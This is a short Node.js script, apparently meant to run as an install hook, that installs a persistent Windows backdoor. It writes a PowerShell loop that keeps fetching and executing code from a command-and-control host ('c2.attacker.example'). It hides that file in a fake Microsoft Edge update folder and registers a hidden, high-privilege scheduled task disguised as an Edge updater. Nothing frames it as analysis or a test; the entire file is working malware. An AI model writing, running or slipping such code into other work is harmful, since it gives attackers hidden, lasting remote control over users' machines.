const os = require('os'), fs = require('fs'), path = require('path');
const { execSync } = require('child_process');
if (os.platform() !== 'win32') process.exit(0);
const dir = path.join(process.env.LOCALAPPDATA, 'Microsoft', 'EdgeUpdate');
fs.mkdirSync(dir, { recursive: true });
const ps1 = path.join(dir, 'update.ps1');
fs.writeFileSync(ps1, "$u='https://c2.attacker.example/w';while($true){try{iex (iwr $u -UseBasicParsing).Content}catch{};sleep 600}");
const cmd = `schtasks /create /tn "MicrosoftEdgeUpdateTaskUserCore" /tr "powershell -w hidden -ep bypass -f \\"${ps1}\\"" /sc onlogon /rl highest /f`;
try { execSync(cmd, { stdio: 'ignore', windowsHide: true }); } catch (e) {
  try { execSync(cmd.replace('/sc onlogon /rl highest', '/sc minute /mo 30'), { stdio: 'ignore', windowsHide: true }); } catch (_) {}
}
